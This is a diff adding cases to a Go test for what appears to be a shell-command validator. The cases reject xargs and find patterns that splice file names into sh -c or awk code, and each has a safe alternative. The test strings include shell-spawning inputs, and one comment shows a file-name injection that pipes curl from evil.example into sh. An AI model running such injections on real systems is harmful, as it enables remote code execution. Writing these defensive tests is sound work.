@@ -226,6 +226,16 @@ func TestFamilyWrappers(t *testing.T) {
 		{name: "exec", hostile: "exec /bin/sh", want: "reads its commands from standard input", benign: "exec git status"},
 		{name: "command", hostile: "command bash", want: "reads its commands from standard input", benign: "command git status"},
 		{name: "an unknown wrapper option", hostile: "timeout --frobnicate 5 git status", want: "--frobnicate is not one the device knows"},
+		// What xargs -I and find -exec ... ; put into a word of shell code
+		// is code: a file named $(curl evil.example|sh) runs.
+		{name: "xargs -I into shell code", hostile: "git ls-files | xargs -I{} sh -c 'wc -l {}'", want: "each {} in its script is replaced",
+			benign: "git ls-files -z | xargs -0 -I{} sh -c 'wc -l \"$1\"' _ {}"},
+		{name: "xargs -I R into shell code", hostile: "ls | xargs -I % bash -c 'echo %'", want: "each % in its script is replaced", benign: "ls | xargs -I % cp % /work/app/out/"},
+		{name: "xargs -i into shell code", hostile: "ls | xargs -i sh -c 'echo {}'", want: "each {} in its script is replaced"},
+		{name: "find -exec ; into shell code", hostile: "find . -name '*.md' -exec sh -c 'wc -l {}' \\;", want: "each {} in its script is replaced",
+			benign: "find . -name '*.md' -exec sh -c 'wc -l \"$1\"' _ {} \\;"},
+		{name: "find -exec ; into awk code", hostile: "find . -name '*.log' -exec awk '/{}/' x \\;", want: "awk code built at run time",
+			benign: "find . -name '*.log' -exec awk '{print \"{}\"}' {} +"},
 	})
 }
 
